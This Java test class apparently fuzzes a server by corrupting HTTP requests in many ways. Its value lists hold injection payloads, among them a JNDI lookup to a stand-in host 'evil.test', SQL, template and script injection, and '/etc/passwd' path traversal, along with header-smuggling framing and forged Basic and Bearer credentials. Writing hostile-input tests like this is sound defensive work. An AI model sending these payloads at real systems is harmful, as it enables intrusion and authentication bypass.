package dev.larder.e2e.hostile;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/// Spoils requests: headers, queries, paths, credentials, framing. The same seed gives the same.
final class Spoiler {
  private static final List<String> FORWARDED =
      List.of(
          "X-Forwarded-For",
          "X-Forwarded-Host",
          "X-Forwarded-Proto",
          "X-Forwarded-Port",
          "X-Forwarded-Prefix",
          "X-Forwarded-User",
          "Forwarded",
          "X-Real-IP",
          "X-Client-IP",
          "True-Client-IP",
          "X-Original-URL",
          "X-Rewrite-URL",
          "X-HTTP-Method-Override",
          "X-Remote-User",
          "Remote-User",
          "X-WEBAUTH-USER",
          "X-SSL-Client-Verify",
          "X-Request-Id",
          "Via");
  private static final List<String> ORDINARY =
      List.of(
          "Range",
          "If-None-Match",
          "If-Match",
          "If-Modified-Since",
          "If-Range",
          "Accept",
          "Accept-Encoding",
          "Accept-Language",
          "Expect",
          "TE",
          "Trailer",
          "Cookie",
          "Origin",
          "Referer",
          "Sec-Fetch-Site",
          "Content-Type",
          "Content-Encoding",
          "Cache-Control",
          "Pragma",
          "User-Agent",
          "Disable-Module-Fetch",
          "Upgrade",
          "HTTP2-Settings",
          "Keep-Alive",
          "Date",
          "DNT",
          "Max-Forwards");
  private static final List<String> VALUES =
      List.of(
          "",
          "127.0.0.1",
          "::1",
          "localhost",
          "admin",
          "https",
          "for=127.0.0.1;proto=https;host=localhost",
          "bytes=0-0",
          "bytes=-1",
          "bytes=5-2",
          "bytes=0-1,4-5,9-",
          "bytes=99999999999999999999-",
          "*",
          "W/\"x\"",
          "\"unclosed",
          "Thu, 01 Jan 1970 00:00:00 GMT",
          "Thu, 99 Foo 99999 99:99:99 XXX",
          "gzip, br;q=nan, *;q=2",
          "100-continue",
          "200-ok",
          "h2c",
          "AAMAAABkAAQCAAAAAAIAAAAA",
          "null",
          "cross-site",
          "http://evil.test",
          "application/x-ndjson",
          "text/html;q=9,\u00ff",
          "-1",
          "18446744073709551616",
          "${jndi:ldap://evil.test/x}",
          "{{7*7}}",
          "' or '1'='1",
          "../../../etc/passwd",
          "a\tb",
          "\u0080\u00fe\u00ff",
          "x%0d%0aX-Injected: 1",
          "x\u0085X-Injected: 1");
  private static final List<String> WORDS =
      List.of(
          "repository",
          "component",
          "version",
          "principal",
          "owner",
          "token",
          "access_token",
          "user",
          "q",
          "prefix",
          "after",
          "limit",
          "since",
          "force",
          "login",
          "action",
          "time",
          "origin.url",
          "_method",
          "callback",
          "__proto__");
  private static final List<String> ODD =
      List.of(
          "%00",
          "a%00b",
          "%",
          "%zz",
          "%c0%ae",
          "%ff",
          "%ed%a0%80",
          "%0d%0aX-Injected:%201",
          "%0aX-Injected:%201",
          "%E2%80%A8",
          "%F0%9F%98%80",
          "go-private",
          "corp.test/m",
          "admin",
          "true",
          "-1",
          "0",
          "99999999999999999999",
          "9007199254740993",
          "*",
          "%2a",
          "%25",
          "%5c",
          "'",
          "%22%3e%3cscript%3e",
          "[a,b)",
          "v1.0.0",
          "2026-01-01T00:00:00Z",
          "+292278994-08-17T07:12:55Z",
          "%2B1000000000-12-31T23:59:59Z",
          "-1000000000-01-01T00:00:00Z",
          "|",
          "\u00e9",
          "");
  private static final List<String> AUTHORITIES =
      List.of(
          "Host: localhost",
          "Host: 127.0.0.1:1",
          "Host: evil.test:99999",
          "Host: evil.test/x",
          "Host: a@b",
          "Host: [::1]",
          "Host: [::1",
          "Host:",
          "Host: x\ty",
          "Host: larder.test\r\nHost: evil.test",
          "Host : larder.test",
          "X-No: host",
          "Host: larder.test\r\n folded",
          "Host: \u00ffx");

  private final Random random;
  private final String known;

  /// @param known the header of somebody who may nothing
  Spoiler(Random random, String known) {
    this.random = random;
    this.known = known;
  }

  String any(List<String> all) {
    return all.get(random.nextInt(all.size()));
  }

  /// Spoils something, once.
  void spoil(HostileDraft draft) {
    switch (random.nextInt(11)) {
      case 0, 1 -> add(draft, any(FORWARDED) + ": " + any(VALUES));
      case 2 -> add(draft, any(ORDINARY) + ": " + any(VALUES));
      case 3 -> draft.headers.set(0, any(AUTHORITIES));
      case 4, 5 -> query(draft);
      case 6 -> path(draft);
      case 7 -> authorization(draft);
      case 8 -> line(draft);
      case 9 -> huge(draft);
      default -> framing(draft);
    }
  }

  private void add(HostileDraft draft, String header) {
    draft.headers.add(1 + random.nextInt(draft.headers.size()), header);
  }

  private void query(HostileDraft draft) {
    StringBuilder query = new StringBuilder(draft.query);
    for (int i = random.nextInt(3); i >= 0; i--) {
      String parameter =
          switch (random.nextInt(known(draft).isEmpty() ? 4 : 12)) {
            case 0 -> any(ODD);
            case 1 -> any(ODD) + "=" + any(ODD);
            case 2 -> any(WORDS);
            case 3 -> any(WORDS) + "=" + any(ODD);
            default -> any(known(draft)) + "=" + any(ODD);
          };
      if (random.nextBoolean() || query.isEmpty()) {
        query.append(query.isEmpty() ? '?' : '&').append(parameter);
      } else {
        query.insert(1, parameter + "&");
      }
    }
    draft.query = query.toString();
  }

  /// The names of the parameters that the request has: of two with a name the first counts.
  private static List<String> known(HostileDraft draft) {
    return Stream.of(draft.query.substring(draft.query.isEmpty() ? 0 : 1).split("&", -1))
        .map(parameter -> parameter.split("=", 2)[0])
        .filter(name -> !name.isEmpty())
        .toList();
  }

  private void path(HostileDraft draft) {
    draft.asksElse = true;
    int at = 1 + random.nextInt(draft.path.length());
    String before = draft.path.substring(0, at);
    String after = draft.path.substring(at);
    draft.path =
        switch (random.nextInt(7)) {
          case 0 -> before + any(List.of("/", "/.", "/..", "/./", "//", ";x=1", "%2e%2e/")) + after;
          case 1 -> before + any(ODD) + after;
          case 2 ->
              after.isEmpty() ? before : before + encoded(after.charAt(0)) + after.substring(1);
          case 3 -> "/setup.sh/..%2f" + draft.path;
          case 4 -> "http://evil.test" + draft.path;
          case 5 -> draft.path.toUpperCase(java.util.Locale.ROOT);
          default -> before.replace("/", any(List.of("%2f", "\\", "/%20", "/\u00ff")));
        };
  }

  private static String encoded(char c) {
    return "%%%02x".formatted((int) c);
  }

  private void authorization(HostileDraft draft) {
    String pair = base64("admin:" + any(List.of("", "admin", "password", "x".repeat(300))));
    String header =
        switch (random.nextInt(10)) {
          case 0 -> "Basic " + pair;
          case 1 -> "basic\t" + pair;
          case 2 -> "Basic " + pair.substring(1);
          case 3 -> "Basic";
          case 4 -> "Bearer " + any(List.of("", "lrd_", "lrd_" + "a".repeat(27), "null", "\u00ff"));
          case 5 -> "Basic " + base64(any(List.of(":", "admin", "\u0000:\u0000", "ad\nmin:x")));
          case 6 -> any(List.of("Digest x", "Negotiate", "NTLM x", "Basic Basic " + pair));
          case 7 -> known + "\r\nAuthorization: Basic " + pair;
          case 8 -> known + ", Basic " + pair;
          default -> "Basic " + base64("admin:lrd_" + any(VALUES));
        };
    draft.headers.removeIf(line -> line.startsWith("Authorization:"));
    add(draft, any(List.of("Authorization", "authorization", "AUTHORIZATION")) + ": " + header);
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  /// Lines that are no headers, and headers twice.
  private void line(HostileDraft draft) {
    int at = random.nextInt(draft.headers.size());
    String line = draft.headers.get(at);
    switch (random.nextInt(8)) {
      case 0 -> add(draft, line);
      case 1 -> draft.headers.set(at, line + "\r\n folded: X-Injected");
      case 2 -> draft.headers.set(at, line.replaceFirst(":", " :"));
      case 3 -> add(draft, any(List.of(": empty", "no colon", "\u00e9: x", "a b: c", "(x): y")));
      case 4 ->
          add(draft, "X-Odd: a" + any(List.of("\u0000", "\u0001", "\u007f", "\u001b[2J")) + "b");
      case 5 -> draft.headers.set(at, line + "\nX-Bare: lf");
      case 6 -> draft.headers.set(at, line + "\rX-Bare: cr");
      default -> draft.version = any(List.of("HTTP/1.0", "http/1.1", "HTTP/1.1 ", "HTTP/1.9"));
    }
  }

  private void huge(HostileDraft draft) {
    switch (random.nextInt(5)) {
      case 0 -> add(draft, "X-Big: " + "b".repeat(4_000 + random.nextInt(20_000)));
      case 1 -> {
        for (int i = 0; i < 400; i++) {
          draft.headers.add("X-" + i + ": y");
        }
      }
      case 2 -> draft.query += (draft.query.isEmpty() ? "?" : "&") + "a=1&".repeat(150);
      case 3 -> draft.query += (draft.query.isEmpty() ? "?" : "&") + "q=" + "z".repeat(7_000);
      default -> {
        draft.asksElse = true;
        draft.path += "/" + "p".repeat(random.nextInt(12_000));
      }
    }
  }

  private void framing(HostileDraft draft) {
    draft.asksElse = true;
    switch (random.nextInt(draft.isTrusted ? 1 : 0, 6)) {
      case 0 ->
          draft.method =
              any(
                  List.of(
                      "HEAD",
                      "OPTIONS",
                      "TRACE",
                      "POST",
                      "PUT",
                      "DELETE",
                      "PATCH",
                      "get",
                      "X",
                      "CONNECT",
                      "PROPFIND",
                      "G\u00cbT"));
      case 1 -> add(draft, "Content-Length: " + any(List.of("0", "5", "-1", "1e3", "+1", "")));
      case 2 -> add(draft, "Transfer-Encoding: " + any(List.of("chunked", "gzip", "x, chunked")));
      case 3 -> {
        add(draft, "Transfer-Encoding: chunked");
        draft.body =
            any(List.of("0\r\n\r\n", "5\r\nhello\r\n0\r\n\r\n", "zz\r\n", "fffffffff\r\n"));
      }
      case 4 -> add(draft, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c");
      default -> draft.body = "{\"a\": " + "[".repeat(5_000);
    }
  }
}
